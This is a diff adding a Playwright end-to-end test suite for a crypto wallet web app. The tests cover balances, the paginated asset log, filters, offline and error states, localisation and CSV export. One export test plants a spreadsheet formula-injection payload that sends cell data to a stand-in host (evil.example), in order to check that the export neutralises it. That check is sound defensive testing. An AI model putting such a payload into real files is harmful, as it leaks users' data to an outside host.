@@ -1,0 +1,485 @@
+import { readFile } from 'node:fs/promises'
+import type { DataOf } from '@lode/wire'
+import type { Locator, Page } from '@playwright/test'
+import { comeBackLater } from '../browser/background.ts'
+import { everything, fillBooks } from '../browser/books.ts'
+import { withIncoming, withoutPrices } from '../browser/screens.ts'
+import { signIn } from '../browser/sign-in.ts'
+import { expect, test } from '../browser/test.ts'
+
+const LOG = /\/api\/wallet\/log/
+const ASSETS = /\/api\/wallet\/assets/
+
+type Line = DataOf<'wallet/log'>['lines'][number]
+
+const many = (count: number) =>
+  Array.from({ length: count }, (_, place) => ({ received: `${place + 1}`, asset: 'USDT' as const }))
+
+/** The view in front; those behind it are kept, and have a `main` too. */
+const shown = (page: Page): Locator => page.locator('main:visible')
+const linesOf = (page: Page): Locator => shown(page).getByRole('listitem')
+const amountsOf = async (page: Page) =>
+  (await linesOf(page).allInnerTexts()).map((text) => /[+−][\d,.]+/.exec(text)?.[0] ?? '')
+
+const scrollToEnd = (page: Page) => shown(page).evaluate((main) => main.scrollTo(0, main.scrollHeight))
+
+/** Changes the lines of every page of the log on their way here. */
+const changeLines = (page: Page, change: (line: Line, place: number) => Line) =>
+  page.route(LOG, async (route) => {
+    const response = await route.fetch()
+    const body = (await response.json()) as { data: DataOf<'wallet/log'> }
+    await route.fulfill({ json: { ...body, data: { ...body.data, lines: body.data.lines.map(change) } } })
+  })
+
+// The app asks again by itself, and may be asking when a test ends.
+test.afterEach(({ page }) => page.unrouteAll({ behavior: 'ignoreErrors' }))
+
+test.describe('the wallet', () => {
+  test('shows each asset, what of it is frozen, what it is worth, and the total', async ({
+    page,
+    stack,
+    register,
+    enter,
+  }) => {
+    const member = await register()
+    await fillBooks(stack, member, everything)
+    await enter(member)
+    await page.goto('/home')
+    await expect(page.getByRole('link', { name: /Total asset value/ })).toContainText(/1,\d{3}\.\d{2} USDT/)
+    await page.getByRole('navigation').getByRole('link', { name: 'Wallet' }).click()
+    await expect(page).toHaveURL('/wallet')
+
+    const usdt = page.getByRole('link', { name: /^USDT/ })
+    await expect(usdt).toContainText('1,210.50')
+    await expect(usdt).toContainText('Value ≈ 1,330.50 USDT')
+    await expect(page.getByRole('link', { name: /^BTN/ })).toContainText('132,400.75')
+    await expect(page.getByRole('link', { name: /^BTC/ })).toContainText('0.00418721')
+
+    const frozen = page.getByRole('button', { name: 'Frozen 120.00' })
+    await expect(shown(page).getByText('On its way out')).toBeHidden()
+    await frozen.click()
+    await expect(shown(page).getByText('On its way out')).toBeVisible()
+    await expect(shown(page).getByText('Reserved for orders')).toBeVisible()
+    await expect(shown(page).getByText('Pledged', { exact: true })).toBeVisible()
+    await expect(shown(page)).toContainText('Price feed')
+  })
+
+  test('without a price says so, and what the total leaves out', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, everything)
+    await enter(member)
+    await withoutPrices(page)
+    await page.goto('/wallet')
+    await expect(shown(page)).toContainText('1,330.50 USDT')
+    await expect(shown(page)).toContainText('Without BTN, BTC: price unavailable')
+    await expect(page.getByRole('link', { name: /^BTC/ })).toContainText('Price unavailable')
+  })
+
+  test('that cannot be loaded says why, and is loaded at another try', async ({ page, register, enter }) => {
+    await enter(await register())
+    await page.route(ASSETS, (route) =>
+      route.fulfill({ status: 403, json: { code: 403, message: '', data: null, reason: 'account-mismatch' } }),
+    )
+    await page.goto('/wallet')
+    await expect(page.getByRole('heading', { name: 'Your assets could not be loaded' })).toBeVisible()
+    await page.unrouteAll({ behavior: 'wait' })
+    await page.getByRole('button', { name: 'Try again' }).click()
+    await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
+  })
+
+  test('holds its shape while it is loading', async ({ page, register, enter }) => {
+    await enter(await register())
+    const { promise: answered, resolve: answer } = Promise.withResolvers<void>()
+    await page.route(ASSETS, async (route) => {
+      await answered
+      await route.continue()
+    })
+    await page.goto('/wallet')
+    const card = page.getByRole('link', { name: /^USDT/ })
+    await expect(card).toBeVisible()
+    await expect(shown(page).getByText('Loading...')).toBeAttached()
+    const place = async () => Math.round((await card.boundingBox())?.y ?? 0)
+    const before = await place()
+    answer()
+    await expect(card).toContainText('Value ≈ 0.00 USDT')
+    expect(await place()).toBe(before)
+  })
+
+  test('that could not be refreshed says how old it is, and says it in no toast', async ({
+    page,
+    register,
+    enter,
+    toasts,
+  }) => {
+    await enter(await register())
+    await page.clock.install()
+    await page.goto('/wallet')
+    await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
+    await page.route(ASSETS, (route) => route.fulfill({ status: 500, json: {} }))
+    await comeBackLater(page)
+    await expect(shown(page)).toContainText('Could not be refreshed. Shown as of')
+    expect(toasts).toEqual([])
+  })
+
+  test('asks again by itself: every 30 seconds, and every 5 while something is confirming', async ({
+    page,
+    register,
+    enter,
+  }) => {
+    await enter(await register())
+    await page.clock.install()
+    let asked = 0
+    page.on('request', (request) => {
+      if (ASSETS.test(request.url())) asked += 1
+    })
+    await page.goto('/wallet')
+    await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
+    await page.clock.runFor(29_000)
+    expect(asked).toBe(1)
+    await withIncoming(page)
+    await page.clock.runFor(2_000)
+    await expect.poll(() => asked).toBe(2)
+    await expect(shown(page)).toContainText('+25,000.00')
+    await page.clock.runFor(6_000)
+    await expect.poll(() => asked).toBe(3)
+  })
+
+  test('for whoever takes assets out is where the sign-in ends, and says why', async ({
+    page,
+    register,
+    disable,
+    giveWallet,
+  }) => {
+    const member = await register()
+    await giveWallet({ account: member.account })
+    await disable(member)
+    await page.goto('/login')
+    await signIn(page)
+      .wallet(/Plain Wallet/)
+      .click()
+    await page.getByRole('button', { name: 'Take your assets out' }).click()
+    await expect(page).toHaveURL('/wallet')
+    await expect(page.getByText('This sign-in is only for taking your assets out.')).toBeVisible()
+    await expect(page.getByRole('navigation').getByRole('link')).toHaveText(['Wallet'])
+    await page.reload()
+    await expect(page.getByText('This sign-in is only for taking your assets out.')).toBeVisible()
+    await page.goto('/home')
+    await expect(page).toHaveURL('/wallet')
+    await page.getByRole('link', { name: /^USDT/ }).click()
+    await expect(page.getByRole('heading', { name: 'Asset log' })).toBeVisible()
+    await expect(page.getByRole('button', { name: 'Deposit' })).toHaveCount(0)
+  })
+})
+
+test.describe('the asset log', () => {
+  test('is loaded as the member scrolls, each line once, to its end', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, many(65))
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page).first()).toContainText('+65.00')
+    await expect(async () => {
+      await scrollToEnd(page)
+      await expect(page.getByText('No more data available')).toBeVisible({ timeout: 500 })
+    }).toPass()
+    expect(await amountsOf(page)).toEqual(Array.from({ length: 65 }, (_, place) => `+${65 - place}.00`))
+  })
+
+  test('whose next page fails says so and asks again only when told to', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, many(25))
+    await enter(member)
+    let asked = 0
+    await page.route(/wallet\/log.*cursor=/, (route) => {
+      asked += 1
+      return route.fulfill({ status: 500, json: {} })
+    })
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page).first()).toContainText('+25.00')
+    await scrollToEnd(page)
+    await expect(page.getByText('Failed loading more data')).toBeVisible()
+    expect(asked).toBe(1)
+    await page.unrouteAll({ behavior: 'wait' })
+    await page.getByRole('button', { name: 'Try again' }).click()
+    await expect(linesOf(page)).toHaveCount(25)
+    await expect(page.getByText('No more data available')).toBeVisible()
+  })
+
+  test('can also be gone through by a press', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, many(25))
+    await enter(member)
+    // Some in-app browsers have it and never call back.
+    await page.addInitScript(() => {
+      window.IntersectionObserver = class {
+        observe() {}
+        disconnect() {}
+      } as unknown as typeof IntersectionObserver
+    })
+    await page.goto('/wallet/detail?symbol=USDT')
+    await page.getByRole('button', { name: 'Load more data' }).click()
+    await expect(linesOf(page)).toHaveCount(25)
+  })
+
+  test('is filtered by type and status, and keeps its filters while another page is open', async ({
+    page,
+    stack,
+    register,
+    enter,
+  }) => {
+    const member = await register()
+    await fillBooks(stack, member, everything)
+    await enter(member)
+    await page.goto('/wallet')
+    await page.getByRole('link', { name: /^USDT/ }).click()
+    await expect(linesOf(page)).toHaveCount(4)
+    await page.getByLabel('Type').selectOption('Transfer out')
+    await expect(linesOf(page)).toHaveCount(2)
+    expect(await amountsOf(page)).toEqual(['−119.00', '−249.00'])
+    await page.getByLabel('Status').selectOption('Canceled')
+    await expect(linesOf(page)).toHaveCount(1)
+    await expect(linesOf(page)).toContainText('Canceled')
+    await expect(linesOf(page)).toContainText('Fee 1.00 USDT')
+
+    await page.getByRole('button', { name: 'Back' }).click()
+    await expect(page).toHaveURL('/wallet')
+    await page.getByRole('link', { name: /^USDT/ }).click()
+    await expect(page.getByLabel('Status')).toHaveValue('canceled')
+    await expect(linesOf(page)).toHaveCount(1)
+    await page.getByLabel('Type').selectOption('Pledge created')
+    await expect(page.getByRole('heading', { name: 'No data yet' })).toBeVisible()
+    await expect(shown(page)).toContainText('No line matches these filters.')
+  })
+
+  test('of another symbol begins anew, and there is none for a symbol that is none', async ({
+    page,
+    register,
+    enter,
+  }) => {
+    await enter(await register())
+    await page.goto('/wallet/detail?symbol=BTC')
+    await expect(page.getByRole('heading', { name: 'BTC', exact: true })).toBeVisible()
+    await expect(page.getByRole('heading', { name: 'No data yet' })).toBeVisible()
+    await page.goto('/wallet/detail?symbol=DOGE')
+    await expect(page.getByRole('heading', { name: 'There is no such asset' })).toBeVisible()
+    await page.getByRole('button', { name: 'To the wallet' }).click()
+    await expect(page).toHaveURL('/wallet')
+  })
+
+  test('shows a deposit that is seen, for how long, and the same line once it is final', async ({
+    page,
+    stack,
+    register,
+    enter,
+  }) => {
+    const member = await register()
+    await fillBooks(stack, member, [{ received: '25000', asset: 'BTN' }])
+    await enter(member)
+    await page.clock.install()
+    const at = new Date(Date.now() - 190_000).toISOString()
+    await changeLines(page, (line) => ({ ...line, at, status: 'confirming' }))
+    await page.goto('/wallet/detail?symbol=BTN')
+    const line = linesOf(page)
+    await expect(line).toContainText('Confirming')
+    await expect(line).toContainText('Seen; usually final in about')
+    await expect(line).toContainText('3 min so far.')
+    await page.clock.runFor(60_000)
+    await expect(line).toContainText('4 min so far.')
+
+    await page.unrouteAll({ behavior: 'wait' })
+    await page.clock.runFor(6_000)
+    await expect(line).toContainText('Confirmed')
+    await expect(linesOf(page)).toHaveCount(1)
+    expect(await amountsOf(page)).toEqual(['+25,000.00'])
+  })
+
+  test('links each transaction to the explorer, or lets its hash be copied', async ({
+    page,
+    context,
+    stack,
+    register,
+    enter,
+    toasts,
+  }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+    const member = await register()
+    await fillBooks(stack, member, [{ received: '5', asset: 'USDT' }])
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await page.getByRole('button', { name: 'Copy the transaction hash' }).click()
+    await expect.poll(() => toasts).toEqual(['Copy successful'])
+    const hash = await page.evaluate(() => navigator.clipboard.readText())
+    expect(hash).toMatch(/^0x[0-9a-f]{64}$/)
+
+    await page.route(/\/api\/pool\/chain/, async (route) => {
+      const response = await route.fetch()
+      const body = (await response.json()) as { data: object }
+      await route.fulfill({ json: { ...body, data: { ...body.data, explorerUrl: 'https://explorer.example/' } } })
+    })
+    await page.reload()
+    const link = page.getByRole('link', { name: /on the explorer/ })
+    await expect(link).toHaveAttribute('href', `https://explorer.example/tx/${hash}`)
+    await expect(link).toHaveAttribute('rel', 'noreferrer')
+  })
+
+  test('shows a type that it does not know as undefined', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, [{ received: '5', asset: 'USDT' }])
+    await enter(member)
+    await changeLines(page, (line) => ({ ...line, type: 'fromTheFuture' }))
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page)).toContainText('Undefined')
+  })
+
+  test('is pulled down, or refreshed by its button, for what is new', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, many(1))
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page)).toHaveCount(1)
+    const pull = async (distance: number) => {
+      const main = shown(page)
+      const touch = (type: string, y: number) =>
+        main.evaluate(
+          (target, [name, clientY]) => {
+            const touches = name === 'touchend' ? [] : [new Touch({ identifier: 1, target, clientX: 100, clientY })]
+            target.dispatchEvent(new TouchEvent(name, { touches, bubbles: true, cancelable: true }))
+          },
+          [type, y] as const,
+        )
+      await touch('touchstart', 200)
+      await touch('touchmove', 200 + distance / 2)
+      await touch('touchmove', 200 + distance)
+      await expect(main.getByText(distance > 112 ? 'Release to refresh' : 'Pull down to refresh')).toBeVisible()
+      await touch('touchend', 0)
+    }
+    await fillBooks(stack, member, [{ received: '2', asset: 'USDT' }])
+    await pull(60)
+    await expect(linesOf(page), 'not far enough').toHaveCount(1)
+    await pull(160)
+    await expect(linesOf(page)).toHaveCount(2)
+    await expect(shown(page)).toContainText('3.00 USDT')
+
+    await fillBooks(stack, member, [{ received: '3', asset: 'USDT' }])
+    await page.getByRole('button', { name: 'Refresh' }).click()
+    await expect(linesOf(page)).toHaveCount(3)
+  })
+
+  test('is loaded when the network is back', async ({ page, context, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, everything)
+    await enter(member)
+    await page.goto('/wallet')
+    await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('1,210.50')
+    await context.setOffline(true)
+    await page.getByRole('link', { name: /^USDT/ }).click()
+    await expect(page.getByRole('heading', { name: 'You are offline' })).toBeVisible()
+    await expect(shown(page)).toContainText('The log will be loaded as soon as the network is back.')
+    await expect(shown(page), 'what is known stays').toContainText('1,210.50')
+    await context.setOffline(false)
+    await expect(linesOf(page)).toHaveCount(4)
+  })
+
+  test('that cannot be loaded says why, and is loaded at another try', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, everything)
+    await enter(member)
+    await page.route(LOG, (route) =>
+      route.fulfill({ status: 429, json: { code: 429, message: '', data: null, reason: 'rate-limited' } }),
+    )
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(page.getByRole('heading', { name: 'The log could not be loaded' })).toBeVisible()
+    await page.unrouteAll({ behavior: 'wait' })
+    await page.getByRole('button', { name: 'Try again' }).click()
+    await expect(linesOf(page)).toHaveCount(4)
+  })
+
+  const words = [
+    ['en', 'No more data available', 'No data yet', 'Transfer in'],
+    ['zh_tw', '沒有更多資料了', '暫無資料', '轉入'],
+    ['zh_cn', '没有更多数据了', '暂无数据', '转入'],
+  ] as const
+  for (const [lang, end, empty, type] of words) {
+    test(`speaks ${lang}`, async ({ page, stack, register, enter }) => {
+      const member = await register({ lang })
+      await fillBooks(stack, member, [{ received: '5', asset: 'USDT' }])
+      await enter(member)
+      await page.goto('/wallet/detail?symbol=USDT')
+      await expect(linesOf(page)).toContainText(type)
+      await expect(page.getByText(end)).toBeVisible()
+      await page.goto('/wallet/detail?symbol=BTN')
+      await expect(page.getByRole('heading', { name: empty })).toBeVisible()
+    })
+  }
+})
+
+test.describe('the log as a file', () => {
+  const save = (page: Page) => page.getByRole('button', { name: 'Save the log as a CSV file' })
+
+  test('has every line of the filter, and no cell that a spreadsheet would run', async ({
+    page,
+    stack,
+    register,
+    enter,
+  }) => {
+    const member = await register()
+    await fillBooks(stack, member, [...many(230), { sent: '10', fee: '1' }])
+    await enter(member)
+    const hostile = '=HYPERLINK("http://evil.example?"&A1,"Click")'
+    await changeLines(page, (line) => (line.amount === '230' ? { ...line, id: hostile } : line))
+    await page.goto('/wallet/detail?symbol=USDT')
+    await page.getByLabel('Type').selectOption('Transfer in')
+    await expect(linesOf(page).first()).toContainText('+230.00')
+    const [download] = await Promise.all([page.waitForEvent('download'), save(page).click()])
+    expect(download.suggestedFilename()).toMatch(/^lode-USDT-\d{4}-\d\d-\d\d\.csv$/)
+    await expect(page.getByText('Saved, 230 lines.')).toBeVisible()
+
+    const text = await readFile(await download.path(), 'utf8')
+    expect(text.startsWith('\uFEFFTime (UTC),Type,Status,Amount,Fee,Symbol,')).toBe(true)
+    const rows = text.trimEnd().split('\r\n').slice(1)
+    expect(rows.map((row) => row.split(',')[3])).toEqual(Array.from({ length: 230 }, (_, place) => `${230 - place}`))
+    expect(rows[0]).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""Click"")"`)
+    expect(text).not.toMatch(/(^|,|\n)"?[=+@]/m)
+  })
+
+  test('has what left as a negative number', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, everything)
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page)).toHaveCount(4)
+    const [download] = await Promise.all([page.waitForEvent('download'), save(page).click()])
+    const rows = (await readFile(await download.path(), 'utf8')).split('\r\n')
+    expect(rows[1]).toMatch(/,Transfer out,Confirming,-119,1,USDT,,,/)
+  })
+
+  test('shows how far it is, and can be cancelled', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, many(120))
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page).first()).toContainText('+120.00')
+    await page.route(/limit=100.*cursor=|cursor=.*limit=100/, () => new Promise(() => {}))
+    let downloads = 0
+    page.on('download', () => {
+      downloads += 1
+    })
+    await save(page).click()
+    await expect(page.getByText('Reading the log: 100 lines')).toBeVisible()
+    await page.getByRole('button', { name: 'Cancel' }).click()
+    await expect(page.getByText('Reading the log')).toHaveCount(0)
+    await expect(save(page)).toBeEnabled()
+    expect(downloads).toBe(0)
+  })
+
+  test('that cannot be made says why', async ({ page, stack, register, enter }) => {
+    const member = await register()
+    await fillBooks(stack, member, many(2))
+    await enter(member)
+    await page.goto('/wallet/detail?symbol=USDT')
+    await expect(linesOf(page)).toHaveCount(2)
+    await page.route(/limit=100/, (route) => route.fulfill({ status: 500, json: {} }))
+    await save(page).click()
+    await expect(page.getByText('The file could not be made: Internal server error')).toBeVisible()
+  })
+})
